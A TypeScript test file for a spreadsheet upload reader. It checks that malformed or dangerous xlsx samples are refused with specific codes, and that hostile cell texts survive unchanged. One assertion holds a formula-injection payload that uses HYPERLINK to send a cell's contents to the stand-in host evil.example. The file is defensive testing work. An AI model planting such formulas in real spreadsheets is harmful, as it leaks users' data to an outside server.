// Every sample of a bad file, and every writer's dialect, through the real reading process.

import { readdirSync, readFileSync } from 'node:fs';
import { expect, test } from 'vitest';
import { read, refusal } from './support/workbook.ts';

const root = 'test/fixtures/samples';

interface Expected {
  file: string;
  upload_name: string;
  outcome: 'accept' | 'reject' | 'either';
  code?: string;
  message_any?: string[];
}

const codes: Record<string, string> = {
  zip_bomb: 'UPLOAD_BOMB',
  empty_file: 'UPLOAD_EMPTY',
  encrypted: 'UPLOAD_ENCRYPTED',
  macros: 'UPLOAD_MACROS',
  not_xlsx: 'UPLOAD_NOT_XLSX',
  legacy_xls: 'UPLOAD_LEGACY_XLS',
  xml_entities: 'UPLOAD_DTD',
  path_traversal: 'UPLOAD_UNSAFE_ZIP',
  corrupt: 'UPLOAD_CORRUPT',
};

const bad = readdirSync(`${root}/bad`).map((name) => ({ name, ...load(`bad/${name}`) }));

test.each(bad.filter(({ expected }) => codes[expected.code ?? ''] && expected.outcome === 'reject'))(
  'refuses $name with its code and a sentence that says why',
  async ({ expected, bytes }) => {
    const error = await refusal(bytes, expected.upload_name);
    expect(error.code).toBe(codes[expected.code!]);
    const said = error.message.replaceAll(expected.file, '').toLowerCase();
    expect(expected.message_any!.some((word) => said.includes(word))).toBe(true);
    expect(`${error.message} ${error.hint}`).not.toMatch(/root:|node_modules|at file:/);
  },
  20_000,
);

test.each(bad.filter(({ expected }) => !codes[expected.code ?? '']))('reads $name', async ({ expected, bytes }) => {
  const { sheets, notes } = await read(bytes, expected.upload_name);
  expect(sheets[0]!.rows.length).toBeGreaterThan(0);
  expect(sheets[0]!.rows.length).toBeLessThan(20);
  if (expected.code === 'external_links') expect(notes.join()).toMatch(/external link/);
});

test('keeps hostile texts as they are typed', async () => {
  const { sheets } = await read(load('bad/formula-injection-text').bytes);
  const texts = sheets[0]!.rows.map((row) => row.cells[8]);
  expect(texts).toContain('=HYPERLINK("http://evil.example/?x="&A1,"click")');
  expect(texts).toContain('\t=1+1');
  const hostile = (await read(load('bad/hostile-strings').bytes)).sheets[0]!.rows.map((row) => row.cells[8]);
  expect(hostile).toContain('__proto__');
  expect(hostile).toContain('Zażółć gęślą jaźń 🧴 香水');
  expect(hostile.at(-1)).toHaveLength(5_000);
});

test('reads the same rows from every writer', async () => {
  const expected = await read(load('writers/excel-like').bytes);
  expect(expected.sheets[0]!.rows).toHaveLength(9);
  for (const name of readdirSync(`${root}/writers`)) {
    expect(await read(load(`writers/${name}`).bytes), name).toEqual(expected);
  }
});

function load(folder: string): { expected: Expected; bytes: Buffer } {
  const file = readdirSync(`${root}/${folder}`).find((name) => name !== 'expected.json')!;
  return {
    expected: JSON.parse(readFileSync(`${root}/${folder}/expected.json`, 'utf8')) as Expected,
    bytes: readFileSync(`${root}/${folder}/${file}`),
  };
}
